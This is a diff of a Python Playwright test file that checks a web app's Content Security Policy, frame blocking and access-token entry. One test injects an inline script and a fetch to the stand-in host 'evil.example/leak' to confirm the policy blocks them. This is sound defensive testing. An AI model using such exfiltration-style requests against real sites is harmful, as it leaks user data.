@@ -10,7 +10,8 @@ import httpx2
 import pytest
 from playwright.sync_api import Browser, Page, expect
 
-from .conftest import SEEN, UNDRAWN, App, running_app, settled
+from tests.browser import SEEN, UNDRAWN, Visit, settled, visited
+from tests.e2e.conftest import App, running_app
 
 TOKEN = "a-token-of-a-class-2026"
 LISTEN = """
@@ -22,59 +23,50 @@ document.addEventListener('securitypolicyviolation', (e) => {
 
 
 @pytest.fixture
-def listening(chromium: Browser) -> Iterator[Page]:
+def listening(chromium: Browser) -> Iterator[Visit]:
     """A page that notes what its policy stops, in frames, too; fails on any error in its console."""
-    context = chromium.new_context(viewport={"width": 1280, "height": 800})
-    context.add_init_script(SEEN)
-    context.add_init_script(LISTEN)
-    context.add_init_script(UNDRAWN)
-    page = context.new_page()
-    page.set_default_timeout(90_000)
-    errors: list[str] = []
-    page.on("pageerror", lambda error: errors.append(str(error)))
-    page.on("console", lambda message: message.type == "error" and errors.append(message.text))
-    page.errors = errors
-    yield page
-    context.close()
-    assert errors == []
+    with visited(chromium, SEEN, LISTEN, UNDRAWN) as visit:
+        yield visit
 
 
 def violations(page: Page) -> list[str]:
     return [told for frame in page.frames for told in frame.evaluate("() => window.violations ?? []")]
 
 
-def test_page_and_scene_violate_nothing(listening: Page, app: App):
-    listening.goto(app.url)
-    settled(listening)
-    expect(listening.get_by_test_id("scene-notice")).to_be_hidden(timeout=60_000)
+def test_page_and_scene_violate_nothing(listening: Visit, app: App):
+    listening.page.goto(app.url)
+    settled(listening.page)
+    expect(listening.page.get_by_test_id("scene-notice")).to_be_hidden()
     for name in ("Compare", "Formulas", "Paper"):
-        listening.locator("#header").get_by_text(name, exact=True).click()
-    expect(listening.locator("#formulas math").first).to_be_visible()
-    expect(listening.locator("#paper math").first).to_be_visible()
-    assert len(listening.frames) == 2
-    assert violations(listening) == []
+        listening.page.locator("#header").get_by_text(name, exact=True).click()
+    expect(listening.page.locator("#formulas math").first).to_be_visible()
+    expect(listening.page.locator("#paper math").first).to_be_visible()
+    assert len(listening.page.frames) == 2
+    assert violations(listening.page) == []
 
 
-def test_the_rigs_own_window_violates_nothing(listening: Page, app: App):
-    listening.goto(f"{app.url}scene/{'policy'.ljust(22, '_')}/")
-    expect(listening.get_by_text("Pitch poles, rad/s")).to_be_visible(timeout=60_000)
-    assert violations(listening) == []
+def test_the_rigs_own_window_violates_nothing(listening: Visit, app: App):
+    listening.page.goto(f"{app.url}scene/{'policy'.ljust(22, '_')}/")
+    expect(listening.page.get_by_text("Pitch poles, rad/s")).to_be_visible()
+    assert violations(listening.page) == []
 
 
-def test_the_apis_description_works_without_inline_scripts(listening: Page, app: App):
-    listening.goto(f"{app.url}docs")
-    listening.locator(".opblock-summary", has_text="/api/v1/gains").click()
-    listening.get_by_role("button", name="Try it out").click()
-    listening.get_by_role("button", name="Execute").click()
-    expect(listening.locator(".responses-table.live-responses-table")).to_contain_text("closed_loop_poles")
-    assert violations(listening) == []
+def test_the_apis_description_works_without_inline_scripts(listening: Visit, app: App):
+    listening.page.goto(f"{app.url}docs")
+    listening.page.locator(".opblock-summary", has_text="/api/v1/gains").click()
+    listening.page.get_by_role("button", name="Try it out").click()
+    listening.page.get_by_role("button", name="Execute").click()
+    expect(listening.page.locator(".responses-table.live-responses-table")).to_contain_text(
+        "closed_loop_poles"
+    )
+    assert violations(listening.page) == []
 
 
 @pytest.mark.parametrize("path", ["", f"scene/{'foreign'.ljust(22, '_')}/"])
-def test_what_is_inline_or_foreign_does_not_run(listening: Page, app: App, path: str):
+def test_what_is_inline_or_foreign_does_not_run(listening: Visit, app: App, path: str):
     """So the listener hears, and the policies are in force."""
-    listening.goto(app.url + path)
-    listening.evaluate(
+    listening.page.goto(app.url + path)
+    listening.page.evaluate(
         """() => {
             const inline = document.createElement('script');
             inline.textContent = 'window.ran = true';
@@ -86,12 +78,12 @@ def test_what_is_inline_or_foreign_does_not_run(listening: Page, app: App, path:
             fetch('https://evil.example/leak').catch(() => {});
         }"""
     )
-    listening.wait_for_function("() => window.violations.length >= 4")
-    told = violations(listening)
+    listening.page.wait_for_function("() => window.violations.length >= 4")
+    told = listening.page.evaluate("() => window.violations")
     assert any(one.startswith("script-src-elem inline") for one in told)
     for kind in ("script-src-elem", "img-src", "connect-src"):
         assert any(one.startswith(f"{kind} https://evil.example") for one in told)
-    assert listening.evaluate("() => window.ran") is None
+    assert listening.page.evaluate("() => window.ran") is None
     listening.errors.clear()  # each of these is told in the console, too
 
 
@@ -112,29 +104,29 @@ def test_other_sites_may_not_frame_the_page(chromium: Browser, app: App):
 
     with ThreadingHTTPServer(("127.0.0.1", 0), Other) as server:
         Thread(target=server.serve_forever, daemon=True).start()
-        page = chromium.new_page()
-        with page.expect_event("requestfailed", lambda request: request.url == app.url) as refused:
-            page.goto(f"http://127.0.0.1:{server.server_port}/")
-        page.close()
+        with visited(chromium) as visit:
+            with visit.page.expect_event("requestfailed", lambda request: request.url == app.url) as refused:
+                visit.page.goto(f"http://127.0.0.1:{server.server_port}/")
+            visit.errors.clear()  # the console tells of it, too
         server.shutdown()
     assert "BLOCKED_BY_RESPONSE" in str(refused.value.failure)
 
 
-def test_a_student_types_the_token_once(listening: Page):
+def test_a_student_types_the_token_once(listening: Visit):
     with running_app(access_token=TOKEN) as app:
         assert httpx2.get(f"{app.url}api/v1/presets").status_code == 401
-        listening.goto(f"{app.url}#place")
-        expect(listening.get_by_label("Access token")).to_be_focused()
-        listening.keyboard.type("guess")
-        listening.keyboard.press("Enter")
-        expect(listening.get_by_role("alert")).to_have_text("This is not the token.")
-        assert violations(listening) == []
+        listening.page.goto(f"{app.url}#place")
+        expect(listening.page.get_by_label("Access token")).to_be_focused()
+        listening.page.keyboard.type("guess")
+        listening.page.keyboard.press("Enter")
+        expect(listening.page.get_by_role("alert")).to_have_text("This is not the token.")
+        assert violations(listening.page) == []
         listening.errors.clear()  # Chromium tells of each 401
-        listening.get_by_label("Access token").fill(TOKEN)
-        listening.get_by_role("button", name="Open").click()
-        settled(listening)
-        expect(listening.get_by_test_id("scene-notice")).to_be_hidden(timeout=60_000)
-        assert listening.evaluate("() => document.cookie") == ""
-        listening.reload()
-        settled(listening)
-        listening.goto("about:blank")
+        listening.page.get_by_label("Access token").fill(TOKEN)
+        listening.page.get_by_role("button", name="Open").click()
+        settled(listening.page)
+        expect(listening.page.get_by_test_id("scene-notice")).to_be_hidden()
+        assert listening.page.evaluate("() => document.cookie") == ""
+        listening.page.reload()
+        settled(listening.page)
+        listening.page.goto("about:blank")
